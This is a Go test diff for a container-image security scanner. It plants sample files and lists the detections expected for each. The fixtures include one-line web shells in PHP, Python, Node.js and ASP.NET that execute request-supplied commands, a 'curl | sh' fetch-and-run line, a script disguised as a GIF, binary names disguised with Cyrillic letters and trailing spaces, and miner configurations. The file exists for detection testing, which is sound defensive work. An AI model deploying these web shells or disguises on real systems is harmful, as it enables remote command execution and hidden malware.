@@ -206,5 +206,48 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 	}, nil, one(
 		ent{name: "usr/local/bin/run", mode: 0o755, body: "#!/bin/sh\nVERSION=$(curl -s https://api.example/latest)\necho \"$VERSION\" > /tmp/v\nexec app \"$@\"\n"},
 		ent{name: "usr/local/share/app/install.sh", mode: 0o755, body: "#!/bin/sh\ncurl -fsSL https://get.example/x | sh\n"}))
+
+	// Masquerading by content kind and by confusable names, anywhere: an
+	// ELF named as a shell script, a script named as a GIF, a Cyrillic "а"
+	// in a journald look-alike, a trailing space, a directory named with a
+	// trailing space; a real script named .sh, a library, a locale file and
+	// a program whose name has a Latin accent are not.
+	add("test/t-masquerade", nil, nil, one(
+		ent{name: "opt/app/bin/update.sh", mode: 0o755, body: elf("update")},
+		ent{name: "var/www/html/img/loader.gif", mode: 0o644, body: "#!/bin/sh\nexec /tmp/x\n"},
+		ent{name: "usr/lib/systemd/systemd-journ\u0430ld", mode: 0o755, body: elf("journald, not")},
+		ent{name: "opt/tools/ssh-agent ", mode: 0o755, body: elf("agent")},
+		ent{name: "opt/app /run", mode: 0o755, body: "#!/bin/sh\n"},
+		ent{name: "opt/app/bin/start.sh", mode: 0o755, body: "#!/bin/sh\nexec app\n"},
+		ent{name: "usr/lib/x86_64-linux-gnu/libfoo.so.1", mode: 0o644, body: elf("foo")},
+		ent{name: "usr/share/locale/\u0440\u0443/LC_MESSAGES/app.mo", mode: 0o644, body: "mo"},
+		ent{name: "opt/app/bin/na\u00efve-tool", mode: 0o755, body: elf("tool")}),
+		hit{rule: "masquerade-content-kind", path: "/opt/app/bin/update.sh", layer: 1},
+		hit{rule: "masquerade-content-kind", path: "/var/www/html/img/loader.gif", layer: 1},
+		hit{rule: "masquerade-confusable-name", path: "/usr/lib/systemd/systemd-journ\u0430ld", layer: 1},
+		hit{rule: "masquerade-confusable-name", path: "/opt/tools/ssh-agent ", layer: 1},
+		hit{rule: "masquerade-confusable-name", path: "/opt/app /run", layer: 1})
+
+	// Web shells that call what the request names or run it from Python,
+	// Node.js and ASP.NET; code that only reads request input is not.
+	// Miner configurations by their keys, without a pool URL; a document
+	// naming algorithms and a wallet of another coin are not.
+	add("test/t-webshell", nil, nil, one(
+		ent{name: "var/www/html/uploads/avatar.php", body: "<?php $_POST['f']($_POST['a']); ?>\n"},
+		ent{name: "srv/app/routes.py", body: "@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n"},
+		ent{name: "srv/web/server.js", body: "app.get('/r', (req, res) => res.send(require('child_process').execSync(req.query.c)))\n"},
+		ent{name: "inetpub/wwwroot/run.aspx", body: "<% System.Diagnostics.Process.Start(\"cmd.exe\", Request[\"c\"]); %>\n"},
+		ent{name: "var/www/html/list.php", body: "<?php $sort = $_GET['sort']; usort($rows, 'cmp'); echo htmlspecialchars($_GET['q']); ?>\n"},
+		ent{name: "srv/app/views.py", body: "name = request.args.get('name')\nreturn escape(name)\n"},
+		ent{name: "srv/web/ls.js", body: "exec('ls -l', cb); const q = req.query.q;\n"},
+		ent{name: "opt/svc/gpu.json", body: `{"algo": "kawpow", "intensity": 20}`},
+		ent{name: "etc/default/svc", body: "OPTS=\"--algo=ghostrider -o 10.0.0.5:3333 -t 4\"\n"},
+		ent{name: "usr/share/doc/algos.md", body: "Ethash and KawPow are proof-of-work algorithms.\n{\"coin\": \"bitcoin\"}\n"}),
+		hit{rule: "web-shell", path: "/var/www/html/uploads/avatar.php", layer: 1},
+		hit{rule: "web-shell", path: "/srv/app/routes.py", layer: 1},
+		hit{rule: "web-shell", path: "/srv/web/server.js", layer: 1},
+		hit{rule: "web-shell", path: "/inetpub/wwwroot/run.aspx", layer: 1},
+		hit{rule: "miner-configuration", path: "/opt/svc/gpu.json", layer: 1},
+		hit{rule: "miner-configuration", path: "/etc/default/svc", layer: 1})
 	return out
 }
